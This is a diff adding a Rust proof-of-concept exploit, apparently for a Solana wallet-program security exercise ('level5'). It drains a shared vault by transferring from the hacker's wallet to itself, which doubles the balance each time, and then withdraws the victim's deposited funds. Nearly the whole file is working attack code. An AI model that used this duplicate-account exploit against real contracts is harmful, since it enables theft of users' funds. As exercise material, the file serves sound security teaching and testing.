@@ -0,0 +1,173 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+    },
+    solana_sdk::{
+        system_program,
+        signature::{read_keypair_file, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum WalletInstruction {
+    Initialize,
+    Deposit { amount: u64 },
+    Withdraw { amount: u64 },
+    Transfer { amount: u64 },
+}
+// We use the same Structure created in the Smart Contract
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Wallet {
+    pub authority: Pubkey,
+    pub balance: u64,
+}
+
+pub fn get_wallet_address(authority: Pubkey, wallet_program: Pubkey) -> Pubkey {
+    let (wallet_address, _) =
+        Pubkey::find_program_address(&[&authority.to_bytes()], &wallet_program);
+    wallet_address
+}
+
+pub fn get_vault_address(wallet_program: Pubkey) -> Pubkey {
+    let (vault_address, _) =
+        Pubkey::find_program_address(&[&"VAULT".as_bytes()], &wallet_program);
+    vault_address
+}
+
+fn initialize(programa: Pubkey, authority: Pubkey) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(get_wallet_address(authority, programa), false),
+            AccountMeta::new(get_vault_address(programa), false),
+            AccountMeta::new(authority, true),
+            AccountMeta::new_readonly(poc_framework::solana_program::sysvar::rent::id(), false),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ],
+        data: WalletInstruction::Initialize.try_to_vec().unwrap(),
+    }
+}
+
+fn deposit(programa: Pubkey, authority: Pubkey, amount: u64) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(get_wallet_address(authority, programa), false),
+            AccountMeta::new(get_vault_address(programa), false),
+            AccountMeta::new(authority, true),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ],
+        data: WalletInstruction::Deposit { amount }.try_to_vec().unwrap(),
+    }
+}
+
+pub fn main() {
+    let programa_keypair = read_keypair_file("./target/so/level5-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let hacker = actors.get("hacker");
+    let victim = actors.get("victim");
+
+    let hacker_wallet = get_wallet_address(hacker.pubkey(), programa);
+    let victim_wallet = get_wallet_address(victim.pubkey(), programa);
+    let vault = get_vault_address(programa);
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("payer"), 10000000000);
+    println!("{}", actors.legend().blue());
+    env.airdrop(victim.pubkey(), 10 * LAMPORTS_PER_SOL);
+    env.airdrop(hacker.pubkey(), 2 * LAMPORTS_PER_SOL);
+
+    /* First the victim and the hacker open their wallets, both live in the same vault */
+    env.execute_as_transaction(
+        &[
+            initialize(programa, victim.pubkey()),
+            deposit(programa, victim.pubkey(), 5 * LAMPORTS_PER_SOL),
+        ],
+        &[&victim],
+    );
+    env.execute_as_transaction(
+        &[
+            initialize(programa, hacker.pubkey()),
+            deposit(programa, hacker.pubkey(), LAMPORTS_PER_SOL),
+        ],
+        &[&hacker],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                 INITIALIZING             *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Victim wallet: ".bold().blue(),
+    env.get_deserialized_account::<Wallet>(victim_wallet).unwrap().blue());
+    println!("{} {:?}", "Hacker wallet: ".bold().blue(),
+    env.get_deserialized_account::<Wallet>(hacker_wallet).unwrap().blue());
+    println!("{} {:?}", "Vault lamports: ".bold().blue(), env.get_account(vault).unwrap().lamports.blue());
+    println!("");
+
+    /* Second we transfer from our wallet to our wallet: the destination write wins, so the balance doubles */
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*       TRANSFER FROM WALLET TO ITSELF     *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    let vault_lamports = env.get_account(vault).unwrap().lamports;
+    let mut balance = env.get_deserialized_account::<Wallet>(hacker_wallet).unwrap().balance;
+    while balance < vault_lamports {
+        env.execute_as_transaction(
+            &[Instruction {
+                program_id: programa,
+                accounts: vec![
+                    AccountMeta::new(hacker_wallet, false),
+                    AccountMeta::new(hacker_wallet, false),
+                    AccountMeta::new_readonly(hacker.pubkey(), true),
+                ],
+                data: WalletInstruction::Transfer { amount: balance }.try_to_vec().unwrap(),
+            }],
+            &[&hacker],
+        );
+        balance = env.get_deserialized_account::<Wallet>(hacker_wallet).unwrap().balance;
+        println!("{} {:?}", "Hacker wallet balance: ".bold().green(), balance.green());
+    }
+    println!("");
+
+    /* Third we steal the money, everything but the rent of the vault */
+    let hacker_before = env.get_account(hacker.pubkey()).unwrap().lamports;
+    let loot = vault_lamports - env.get_rent_excemption(0);
+    env.execute_as_transaction(
+        &[Instruction {
+            program_id: programa,
+            accounts: vec![
+                AccountMeta::new(hacker_wallet, false),
+                AccountMeta::new(vault, false),
+                AccountMeta::new(hacker.pubkey(), true),
+                AccountMeta::new(hacker.pubkey(), false),
+            ],
+            data: WalletInstruction::Withdraw { amount: loot }.try_to_vec().unwrap(),
+        }],
+        &[&hacker],
+    );
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                 WITHDRAWING              *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Vault lamports: ".bold().red(), env.get_account(vault).unwrap().lamports.red());
+    println!("{} {:?}", "Victim wallet (nothing left to back it): ".bold().red(),
+    env.get_deserialized_account::<Wallet>(victim_wallet).unwrap().red());
+    println!("{} {:?}", "Hacker earned: ".bold().green(),
+    (env.get_account(hacker.pubkey()).unwrap().lamports - hacker_before).green());
+    println!("");
+}